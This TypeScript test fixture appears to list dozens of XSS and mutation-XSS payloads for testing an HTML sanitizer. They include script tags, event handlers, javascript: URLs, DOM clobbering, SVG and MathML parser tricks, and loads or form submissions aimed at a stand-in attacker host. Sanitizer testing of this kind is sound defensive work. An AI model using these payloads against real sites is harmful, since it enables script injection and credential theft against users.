/** Attacks of every sort. Each tries to set `__pwned`, to contact `evil.example`, or to leave forbidden markup. */
export const attacks: Readonly<Record<string, string>> = {
  'a script': '<p>a</p><script>window.__pwned=1</script>',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script inside a script': '<scr<script></script>ipt>window.__pwned=1</script>',
  'an event handler': '<p onclick="window.__pwned=1" onpointerover=window.__pwned=1>a</p>',
  'a handler of a broken picture': '<img src="data:," onerror="window.__pwned=1"><img src onerror=window.__pwned=1>',
  'a handler after a slash': '<img/onerror="window.__pwned=1"/src="data:,">',
  'a handler with a line break': '<img src=x\nonerror\n=\nwindow.__pwned=1>',
  'a handler without interaction':
    '<details open ontoggle="window.__pwned=1">a</details><p onanimationstart=window.__pwned=1>',
  'focus that comes by itself':
    '<input autofocus onfocus="window.__pwned=1"><p tabindex=0 autofocus onfocus="window.__pwned=1">a</p>',
  'addresses with scripts':
    '<a href="javascript:window.__pwned=1">a</a><a href=" &#1; jAvA&#9;sCript:window.__pwned=1">b</a><a href="java\nscript:alert(1)">c</a>',
  'addresses with data':
    '<a href="data:text/html,<script>window.__pwned=1</script>">a</a><a href="vbscript:x">b</a><a href="blob:x">c</a>',
  'pictures with scripts':
    '<img src="javascript:window.__pwned=1"><img src="data:image/svg+xml,<svg onload=window.__pwned=1>">',
  'an image map':
    '<img src="/media/a.png" usemap="#m"><map name="m"><area href="javascript:window.__pwned=1" shape="default"></map>',
  frames:
    '<iframe src="javascript:parent.__pwned=1"></iframe><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><frameset><frame src="https://evil.example/">',
  'an unclosed frame': '<p>a</p><iframe srcdoc="<img src=x onerror=parent.__pwned=1>',
  objects:
    '<object data="https://evil.example/x"><embed src="https://evil.example/y"></object><applet code="x">a</applet>',
  'a base': '<base href="https://evil.example/"><a href="steal">a</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'links of the head':
    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" as="image" href="https://evil.example/x.png">',
  'a form':
    '<form action="https://evil.example/steal"><label>Name <input name="password"></label><button formaction="https://evil.example/">Log in</button></form>',
  'buttons of popovers':
    '<button popovertarget="p" onclick="window.__pwned=1">a</button><div id="p" popover onbeforetoggle="window.__pwned=1">b</div>',
  styles:
    '<style>*{background:url(https://evil.example/x.png)}</style><p style="background:url(https://evil.example/y.png)">a</p>',
  'a style in a comment': '<style><!--</style><img title="--></style><img src=x onerror=window.__pwned=1>">',
  'clobbered names':
    '<img name="cookie"><img name="body"><a id="location"><a id="location" name="href" href="https://evil.example/">a</a></a>',
  'a clobbered form':
    '<form id="attributes"><input name="attributes"><input name="childNodes"><img src=x onerror="window.__pwned=1"></form>',
  'a clobbered parent':
    '<form onclick="window.__pwned=1"><input name="parentNode"><input name="nodeName"><b>a</b></form>',
  'our own names': '<div class="base" part="error" slot="item" is="x-y" exportparts="a">a</div>',
  'a custom element':
    '<cal-event-list base-url="https://evil.example/api"></cal-event-list><x-evil onclick="window.__pwned=1">a</x-evil>',
  'a declared shadow root':
    '<div><template shadowrootmode="open"><img src=x onerror="window.__pwned=1"></template>a</div>',
  'a template': '<template><img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script></template>',
  'a template in a template': '<template><template><svg onload="window.__pwned=1"></template></template><b>a</b>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">a</p></noscript>',
  'raw texts':
    '<xmp><p title="</xmp><img src=x onerror=window.__pwned=1>"></xmp><plaintext><img src=x onerror=window.__pwned=1>',
  'a noembed and a noframes':
    '<noembed><i title="</noembed><img src=x onerror=window.__pwned=1>"></noembed><noframes><i title="</noframes><svg onload=window.__pwned=1>">',
  'a textarea': '<textarea><i title="</textarea><img src=x onerror=window.__pwned=1>"></textarea>',
  'a title': '<svg><title><i title="</title><img src=x onerror=window.__pwned=1>"></title></svg>',
  'an SVG':
    '<svg onload="window.__pwned=1"><script>window.__pwned=1</script><a href="javascript:window.__pwned=1"><text>a</text></a></svg>',
  'an SVG that animates':
    '<svg><a><set attributeName="href" to="javascript:window.__pwned=1"/><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></a></svg>',
  'an SVG that uses another':
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x"/><image href="https://evil.example/x.png"/></svg>',
  'foreign objects':
    '<svg><foreignObject><div><img src=x onerror="window.__pwned=1"></div><iframe srcdoc="x"></iframe></foreignObject></svg>',
  'a description of an SVG': '<svg><desc><style><p id="</style><img src=x onerror=window.__pwned=1>"></desc></svg>',
  'a style in an SVG': '<svg></p><style><a title="</style><img src=x onerror=window.__pwned=1>">',
  MathML:
    '<math href="javascript:window.__pwned=1"><mi xlink:href="javascript:window.__pwned=1" onclick="window.__pwned=1">x</mi></math>',
  'an annotation':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=window.__pwned=1>"></style></annotation-xml></math>',
  'a style behind a glyph':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=1&gt;">',
  'a comment behind a glyph':
    '<math><mi><table><malignmark><mglyph><!--</mi><img title="--><img src=x onerror=window.__pwned=1>">',
  'nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="window.__pwned=1">',
  'a foster parent': '<table><tr><svg><td><style><b title="</style><img src=x onerror=window.__pwned=1>"></table>',
  'nested tables':
    '<table><caption><table><svg><style><i title="</style><img src=x onerror=window.__pwned=1>"></caption></table>',
  'deep nesting': `${'<div>'.repeat(600)}<table><caption><svg><title><style><img src=x onerror=window.__pwned=1>`,
  'links in links':
    '<a href="https://ok.example/"><table><a href="javascript:window.__pwned=1"><svg><a><style><i title="</style><img src=x onerror=window.__pwned=1>">',
  'a select':
    '<select><option><style></option></select><img src=x onerror="window.__pwned=1"></style></option></select>',
  'a select that customises':
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror="window.__pwned=1">a</option></select>',
  'comments that end early':
    '<!--><img src=x onerror="window.__pwned=1">--><!--!><i title="--!><img src=x onerror=window.__pwned=1>">',
  'processing instructions':
    '<?xml-stylesheet href="https://evil.example/x"?><![CDATA[<img src=x onerror="window.__pwned=1">]]><!DOCTYPE x [<!ENTITY e "x">]>',
  'sound and pictures in motion':
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" autoplay onloadstart="window.__pwned=1"><source onerror="window.__pwned=1"></video><audio src="https://evil.example/x.mp3" autoplay></audio>',
  'sources of pictures':
    '<picture><source srcset="https://evil.example/x.png"><img srcset="https://evil.example/x.png 1x, /media/b.png 2x" src="/media/a.png"></picture>',
  'pings and targets':
    '<a href="https://ok.example/" ping="https://evil.example/" target="_top" download rel="opener">a</a>',
  'a marquee':
    '<marquee onstart="window.__pwned=1" behavior="alternate">a</marquee><bgsound src="https://evil.example/x">',
  'old attributes':
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png" dynsrc="x" lowsrc="y">a</table>',
  'speculation rules': '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  'import maps': '<script type="importmap">{"imports":{"lit":"https://evil.example/"}}</script>',
};
